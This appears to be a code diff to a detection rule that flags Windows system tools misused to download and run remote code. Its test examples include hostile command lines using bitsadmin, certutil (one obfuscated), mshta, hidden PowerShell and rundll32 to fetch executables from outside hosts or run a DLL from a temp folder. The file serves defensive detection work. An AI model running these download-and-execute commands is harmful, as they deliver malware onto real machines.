@@ -4,6 +4,8 @@ import { isLocal } from '../../signals/places/hosts.ts'
 import { mentions } from '../../signals/search/mentions.ts'
 import { windowsAround } from '../../signals/search/windows.ts'
 import { commands } from '../../signals/shell/commands.ts'
+import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { TOOLS_MISUSED } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 import { weightOfOrigin } from '../../verdicts/in-code/origins.ts'
 
 /** Parts of the system that fetch and run when asked in an odd way. */
@@ -46,18 +48,23 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```cmd\nbitsadmin /create k & bitsadmin /addfile k https://cdn.tallow-bar.net/k.exe %TEMP%\\k.exe\n```\n',
+      '```cmd\nrundll32.exe %TEMP%\\kiln.dll,Start\n```\n',
       'mshta https://cdn.fieldlog.example/a.hta\n',
       'certutil -urlcache -split -f https://cdn.fieldlog.example/a.exe a.exe\n',
       'cert^util -url""cache -f https://cdn.fieldlog.example/a.exe a.exe\n',
       '```\npowershell -w hidden -nop -c "iwr https://cdn.fieldlog.example/a"\n```\n',
     ],
     quiet: [
+      '```cmd\nbitsadmin /list /allusers\n```\n',
+      '```cmd\nInstallUtil.exe /LogFile=kiln.log C:\\kiln\\KilnService.exe\n```\n',
       '```\ncertutil -hashfile setup.exe SHA256\n```\n',
       '```\nmsiexec /i installer.msi /qn\n```\n',
       '```bash\npython3 -c "import json; print(json.load(open(\'a.json\')))"\n```\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, TOOLS_MISUSED)
     const known = document.observe(mentions)
     const done = new Set<number>()
     yield* disguised(document, done)
